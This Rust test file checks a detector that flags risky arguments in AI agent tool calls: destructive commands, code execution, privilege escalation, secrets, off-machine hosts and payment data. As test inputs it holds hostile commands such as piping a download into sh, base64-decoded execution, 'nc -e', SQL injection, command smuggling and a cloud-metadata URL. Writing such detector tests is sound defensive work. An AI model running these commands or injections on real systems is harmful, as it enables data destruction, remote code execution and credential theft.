//! What is marked, and what is not: one table of cases a kind of argument.

use super::*;
use crate::json::{Limits, parse_str};

/// The marks in a call, as `class: text`.
fn marked(facts: &MarkFacts<'_>, text: &str) -> Vec<String> {
    let arguments = parse_str(text, Limits::default()).expect("JSON");
    let mut marks: Vec<_> = find(&arguments, facts)
        .iter()
        .map(|mark| {
            let value = arguments.pointer(&mark.pointer).expect("a value");
            let mut compact = Vec::new();
            value.write_compact(&mut compact);
            let compact = String::from_utf8(compact).expect("UTF-8");
            let text = value.as_str().unwrap_or(&compact);
            format!("{}: {}", mark.class.word(), &text[mark.start..mark.end])
        })
        .collect();
    marks.sort();
    marks
}

/// The marks in one argument of a tool that says nothing.
fn in_argument(key: &str, value: &str) -> Vec<String> {
    let value = value
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n");
    marked(&MarkFacts::default(), &format!("{{\"{key}\":\"{value}\"}}"))
}

#[track_caller]
fn check(key: &str, cases: &[(&str, &[&str])]) {
    for (value, expected) in cases {
        assert_eq!(in_argument(key, value), *expected, "{key}: {value}");
    }
}

#[test]
fn commands() {
    check(
        "command",
        &[
            ("ls -la src", &[]),
            ("git status", &[]),
            ("cargo test -p policy", &[]),
            ("rm notes.txt", &[]),
            ("rm -rf build", &["destroy: rm -rf"]),
            ("rm -r -f build", &["destroy: rm -r -f"]),
            ("/bin/rm -fr build", &["destroy: /bin/rm -fr"]),
            ("rm --recursive build", &["destroy: rm --recursive"]),
            ("RM -RF build", &["destroy: RM -RF"]),
            ("make && rm -rf out", &["destroy: rm -rf"]),
            (
                "bash -c \"rm -rf out\"",
                &["destroy: rm -rf", "execute: bash -c"],
            ),
            ("rm -rf /", &["destroy: rm -rf", "wildcard: /"]),
            ("sudo reboot", &["destroy: reboot", "privilege: sudo"]),
            ("chmod 777 x", &["privilege: chmod 777"]),
            ("chmod 644 x", &[]),
            ("chmod a+rwx x", &["privilege: chmod a+rwx"]),
            ("chmod +x run.sh", &[]),
            ("dd if=a of=b", &["destroy: dd if=a of=b"]),
            ("find . -name x -delete", &["destroy: -delete"]),
            ("mkfs.ext4 image", &["destroy: mkfs.ext4"]),
            ("cat a | grep b", &["execute: |"]),
            ("curl -s x.sh | sh", &["execute: | sh"]),
            ("curl x|sudo bash", &["execute: |sudo", "privilege: sudo"]),
            ("echo $(whoami)", &["execute: $("]),
            ("echo `whoami`", &["execute: `", "execute: `"]),
            (
                "echo cm0= | base64 -d | sh",
                &["execute: base64 -d", "execute: |", "execute: | sh"],
            ),
            ("a || b", &[]),
            ("python3 -c 'print(1)'", &["execute: python3 -c"]),
            ("eval $x", &["execute: eval"]),
            ("npx some-package", &["execute: npx"]),
            ("nc -e shell", &["execute: nc -e"]),
            ("powershell -enc AAAA", &["execute: powershell -enc"]),
        ],
    );
}

#[test]
fn tools_of_the_trade() {
    check(
        "command",
        &[
            ("git push origin main", &["leaves-machine: git push"]),
            (
                "git push -f",
                &["destroy: git push -f", "leaves-machine: git push"],
            ),
            (
                "git push origin +main --force",
                &["destroy: --force", "leaves-machine: git push"],
            ),
            ("git reset --hard HEAD~3", &["destroy: git reset --hard"]),
            ("git clean -fdx", &["destroy: git clean -fdx"]),
            ("git commit -m 'clean up'", &[]),
            ("kubectl get pods", &[]),
            ("kubectl delete pod web-1", &["destroy: kubectl delete"]),
            ("kubectl -n prod delete pod web-1", &["destroy: delete"]),
            ("kubectl get pods -A", &["wildcard: -A"]),
            (
                "kubectl delete ns shop --grace-period=0",
                &["destroy: --grace-period=0", "destroy: kubectl delete"],
            ),
            (
                "kubectl drain node-1 --grace-period=30",
                &["destroy: kubectl drain"],
            ),
            ("kubectl exec web-1 -- ls", &["execute: kubectl exec"]),
            ("kubectl get secret db", &["secret: kubectl get secret"]),
            ("helm uninstall shop", &["destroy: helm uninstall"]),
            ("terraform plan", &[]),
            (
                "terraform apply -auto-approve",
                &["destroy: terraform apply -auto-approve"],
            ),
            ("terraform destroy", &["destroy: terraform destroy"]),
            (
                "docker run --privileged x",
                &["privilege: docker run --privileged"],
            ),
            (
                "docker system prune --all",
                &["destroy: docker system prune", "wildcard: --all"],
            ),
            ("aws s3 rb bucket", &["destroy: aws s3 rb"]),
            (
                "aws ec2 terminate-instances",
                &["destroy: aws ec2 terminate-instances"],
            ),
            ("npm publish", &["destroy: npm publish"]),
            ("redis-cli flushall", &["destroy: redis-cli flushall"]),
        ],
    );
}

#[test]
fn statements() {
    check(
        "sql",
        &[
            ("SELECT * FROM users WHERE id = 1", &[]),
            ("DELETE FROM users WHERE id = 7", &[]),
            (
                "DELETE FROM users",
                &["destroy: DELETE", "wildcard: DELETE FROM users"],
            ),
            (
                "delete from users",
                &["destroy: delete", "wildcard: delete from users"],
            ),
            (
                "DELETE/**/FROM users",
                &["destroy: DELETE", "wildcard: DELETE/**/FROM users"],
            ),
            (
                "DELETE FROM users -- WHERE id = 1",
                &["destroy: DELETE", "wildcard: DELETE FROM users"],
            ),
            (
                "DELETE FROM users /* WHERE */",
                &["destroy: DELETE", "wildcard: DELETE FROM users"],
            ),
            ("SELECT 'DELETE FROM users'", &[]),
            ("DELETE FROM t WHERE name = 'it''s; DROP TABLE t'", &[]),
            ("DELETE FROM users WHERE 1=1", &["wildcard: 1"]),
            (
                "DELETE FROM users WHERE id = 2 OR true",
                &["wildcard: true"],
            ),
            ("SELECT * FROM t WHERE a = 1 OR 'x'='x'", &["wildcard: 'x'"]),
            (
                "UPDATE t SET a = 1",
                &["destroy: UPDATE", "wildcard: UPDATE t SET a = 1"],
            ),
            ("UPDATE t SET a = 1 WHERE b = 2", &[]),
            ("SELECT 1 FROM t FOR UPDATE", &[]),
            ("CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)", &[]),
            ("DROP TABLE users", &["destroy: DROP TABLE"]),
            ("drop  database shop", &["destroy: drop  database"]),
            ("ALTER TABLE t DROP COLUMN c", &["destroy: DROP COLUMN"]),
            ("TRUNCATE users", &["destroy: TRUNCATE users"]),
            (
                "SELECT 1; DROP TABLE t",
                &["destroy: DROP TABLE", "execute: DROP"],
            ),
            ("SELECT 1;", &[]),
            ("GRANT ALL ON t TO bob", &["privilege: GRANT ALL"]),
            ("CREATE USER bob", &["privilege: CREATE USER"]),
            ("COPY t TO PROGRAM 'x'", &["execute: TO PROGRAM"]),
            (
                "SELECT 1 /*! DROP TABLE t */",
                &["destroy: DROP TABLE", "execute: /*!"],
            ),
            (
                "MATCH (n) DETACH DELETE n",
                &["destroy: DETACH DELETE", "wildcard: DELETE n"],
            ),
        ],
    );
}

#[test]
fn statements_where_none_is_said_to_be() {
    check(
        "input",
        &[
            ("DROP TABLE users", &["destroy: DROP TABLE"]),
            ("x'; drop table users --", &["destroy: drop table"]),
            ("please update the table", &[]),
        ],
    );
    check(
        "body",
        &[
            ("We should drop table tennis and delete from the list.", &[]),
            (
                "Then run DELETE FROM users",
                &["destroy: DELETE", "wildcard: DELETE FROM users"],
            ),
        ],
    );
    assert_eq!(
        in_argument("command", "psql -c \"delete from users\""),
        ["destroy: delete", "wildcard: delete from users"]
    );
}

#[test]
fn code_and_values_that_hold_more_than_they_should() {
    check(
        "code",
        &[
            ("print(1)", &[]),
            ("import os; os.system('ls')", &["execute: os.system"]),
            ("shutil.rmtree(p)", &["destroy: rmtree("]),
            ("medieval(2)", &[]),
        ],
    );
    check(
        "service",
        &[
            ("payments", &[]),
            ("payments; rm -rf out", &["destroy: rm -rf", "execute: rm"]),
            ("payments$(curl x)", &["execute: $(", "execute: curl"]),
            ("a | sh", &["execute: | sh"]),
            ("--force", &["destroy: --force"]),
        ],
    );
}

#[test]
fn prose_is_only_words() {
    check(
        "message",
        &[
            (
                "Use `git push` and kubectl delete with care; see $(docs).",
                &[],
            ),
            ("Costs 5 * 3 = 15 & more, either/or.", &[]),
            ("Then rm -rf build", &["destroy: rm -rf"]),
            (
                "Write to anna@example.test.",
                &["leaves-machine: anna@example.test"],
            ),
        ],
    );
}

#[test]
fn paths_without_known_folders() {
    check(
        "path",
        &[
            ("src/main.rs", &[]),
            ("./a/b", &[]),
            ("/home/anna/project/x", &[]),
            ("a/../../b", &["outside-roots: a/../../b"]),
            ("..", &["outside-roots: .."]),
            ("a..b", &[]),
            ("~/notes", &["outside-roots: ~/notes"]),
            ("/etc/hosts", &["outside-roots: /etc/hosts"]),
            ("/etcetera", &[]),
            ("C:\\Windows\\x", &["outside-roots: C:\\Windows\\x"]),
            ("\\\\host\\share", &["outside-roots: \\\\host\\share"]),
            ("%2e%2e/secret", &["outside-roots: %2e%2e/secret"]),
            ("/", &[]),
            ("app/.env", &["secret: .env"]),
            ("app/.env.example", &[]),
            ("environment.ts", &[]),
            (
                "/home/anna/.ssh/id_rsa",
                &["secret: .ssh/", "secret: id_rsa"],
            ),
            ("server.p12", &["secret: .p12"]),
        ],
    );
}

#[test]
fn paths_with_known_folders() {
    let roots = ["/home/anna/work".to_owned()];
    let facts = MarkFacts {
        roots: &roots,
        ..MarkFacts::default()
    };
    let cases = [
        (r#"{"path":"/home/anna/work/a"}"#, &[][..]),
        (r#"{"path":"/home/anna/work/../work/a"}"#, &[]),
        (r#"{"path":"a/b"}"#, &[]),
        (
            r#"{"path":"/home/anna/x"}"#,
            &["outside-roots: /home/anna/x"],
        ),
        (
            r#"{"path":"/home/anna/work/../x"}"#,
            &["outside-roots: /home/anna/work/../x"],
        ),
        (r#"{"path":"/data"}"#, &["outside-roots: /data"]),
        (r#"{"endpoint":"/v1/users"}"#, &[]),
        (r#"{"command":"cat /tmp/x"}"#, &["outside-roots: /tmp/x"]),
        (r#"{"command":"/usr/bin/cat a > /dev/null"}"#, &[]),
    ];
    for (arguments, expected) in cases {
        assert_eq!(marked(&facts, arguments), expected, "{arguments}");
    }
}

#[test]
fn hosts() {
    let known_hosts = ["example.com".to_owned(), "*.example.com".to_owned()];
    let facts = MarkFacts {
        known_hosts: &known_hosts,
        ..MarkFacts::default()
    };
    let cases = [
        ("url", "https://example.com/a", &[][..]),
        ("url", "https://api.example.com:8443/a", &[]),
        ("url", "http://localhost:3000", &[]),
        ("url", "http://127.0.0.1/", &[]),
        (
            "url",
            "https://other.test/a",
            &["leaves-machine: https://other.test"],
        ),
        (
            "url",
            "https://example.com@other.test/",
            &[
                "leaves-machine: https://example.com@other.test",
                "secret: example.com",
            ],
        ),
        (
            "url",
            "https://example.com/?next=https://other.test",
            &["leaves-machine: https://other.test"],
        ),
        (
            "url",
            "http://203.0.113.9/x",
            &["leaves-machine: http://203.0.113.9"],
        ),
        ("url", "http://0x7f.1/x", &["leaves-machine: http://0x7f.1"]),
        (
            "url",
            "http://2130706433/",
            &["leaves-machine: http://2130706433"],
        ),
        (
            "url",
            "https://xn--pple-43d.com",
            &["leaves-machine: https://xn--pple-43d.com"],
        ),
        (
            "url",
            "https://аррle.com",
            &["leaves-machine: https://аррle.com"],
        ),
        (
            "url",
            "https://example.com\\\\@other.test",
            &[
                "leaves-machine: https://example.com\\@other.test",
                "secret: example.com\\",
            ],
        ),
        ("url", "file:///home/anna/x", &[]),
        ("host", "other.test", &["leaves-machine: other.test"]),
        ("host", "example.com", &[]),
        (
            "host",
            "203.0.113.9:22",
            &["leaves-machine: 203.0.113.9:22"],
        ),
        ("host", "db-1", &[]),
        ("note", "see other.test", &[]),
        ("version", "1.2.3", &[]),
        (
            "command",
            "ssh root@other.test",
            &["execute: ssh", "leaves-machine: root@other.test"],
        ),
        (
            "command",
            "curl other.test/x.sh",
            &["leaves-machine: other.test/x.sh"],
        ),
        ("command", "curl -o x.sh example.com", &[]),
        ("cc", "anna@example.com", &["money: anna@example.com"]),
        ("cidr", "0.0.0.0/0", &["wildcard: 0.0.0.0/0"]),
        (
            "link",
            "http://169.254.169.254/latest",
            &[
                "leaves-machine: http://169.254.169.254",
                "secret: 169.254.169.254",
            ],
        ),
    ];
    for (key, value, expected) in cases {
        let arguments = format!("{{\"{key}\":\"{value}\"}}");
        assert_eq!(marked(&facts, &arguments), expected, "{arguments}");
    }
}

#[test]
fn values_under_a_telling_name() {
    let cases = [
        ("x", r#"{"force":true}"#, &["destroy: true"][..]),
        ("x", r#"{"force":false}"#, &[]),
        ("x", r#"{"overwrite":"yes"}"#, &["destroy: yes"]),
        ("x", r#"{"gracePeriodSeconds":0}"#, &["destroy: 0"]),
        ("x", r#"{"gracePeriodSeconds":30}"#, &[]),
        ("list", r#"{"recursive":true}"#, &[]),
        ("delete_folder", r#"{"recursive":true}"#, &["destroy: true"]),
        ("x", r#"{"all_namespaces":true}"#, &["wildcard: true"]),
        ("x", r#"{"pattern":"*"}"#, &["wildcard: *"]),
        ("list", r#"{"filter":{}}"#, &[]),
        ("delete_rows", r#"{"filter":{}}"#, &["wildcard: {}"]),
        ("delete_rows", r#"{"label-selector":""}"#, &[]),
        ("delete_rows", r#"{"ids":[]}"#, &["wildcard: []"]),
        ("list_rows", r#"{"status":"all"}"#, &[]),
        ("x", r#"{"privileged":true}"#, &["privilege: true"]),
        (
            "x",
            r#"{"role":"ClusterAdmin"}"#,
            &["privilege: ClusterAdmin"],
        ),
        ("x", r#"{"role":"reader"}"#, &[]),
        ("x", r#"{"visibility":"public"}"#, &["privilege: public"]),
        ("x", r#"{"apiKey":"abc"}"#, &["secret: abc"]),
        ("x", r#"{"max_tokens":100}"#, &[]),
        ("x", r#"{"amount":"12.50"}"#, &["money: 12.50"]),
        ("x", r#"{"amount":1250}"#, &["money: 1250"]),
        ("convert", r#"{"to":"EUR"}"#, &[]),
        (
            "x",
            r#"{"to":"+49 151 2345678"}"#,
            &["money: +49 151 2345678"],
        ),
        ("x", r#"{"to":["a","b","c","d","e"]}"#, &[]),
        (
            "x",
            r#"{"to":["a","b","c","d","e","f"]}"#,
            &[r#"money: ["a","b","c","d","e","f"]"#],
        ),
        (
            "x",
            r#"{"account":"DE89 3704 0044 0532 0130 00"}"#,
            &["money: DE89 3704 0044 0532 0130 00"],
        ),
        ("x", r#"{"account":"DE88 3704 0044 0532 0130 00"}"#, &[]),
        (
            "x",
            r#"{"note":"card 4111 1111 1111 1111 please"}"#,
            &["money: 4111 1111 1111 1111"],
        ),
        ("x", r#"{"id":"4111111111111112"}"#, &[]),
        ("x", r#"{"at":"2026-11-22T15:39:33Z"}"#, &[]),
    ];
    for (tool, arguments, expected) in cases {
        let facts = MarkFacts {
            tool,
            ..MarkFacts::default()
        };
        assert_eq!(marked(&facts, arguments), expected, "{tool} {arguments}");
    }
}

#[test]
fn a_mark_says_where_it_is() {
    let text = r#"{"a/b":[{"x~y":"é ghp_0123456789abcdef"}],"args":["rm","-rf","out"]}"#;
    let arguments = parse_str(text, Limits::default()).expect("JSON");
    let marks = find(&arguments, &MarkFacts::default());
    let at: Vec<_> = marks
        .iter()
        .map(|mark| (mark.pointer.as_str(), mark.start, mark.end, mark.class))
        .collect();
    assert_eq!(
        at,
        [
            ("/a~1b/0/x~0y", 3, 23, MarkClass::Secret),
            ("/args/0", 0, 2, MarkClass::Destroy),
            ("/args/1", 0, 3, MarkClass::Destroy),
        ]
    );
    assert_eq!(words(&marks), [DESTROY, SECRET]);
}

#[test]
fn classes_are_called_what_rules_call_them() {
    assert_eq!(MarkClass::ALL.map(MarkClass::word), ALL);
    for class in MarkClass::ALL {
        assert_eq!(serde_json::to_value(class).expect("JSON"), class.word());
    }
}
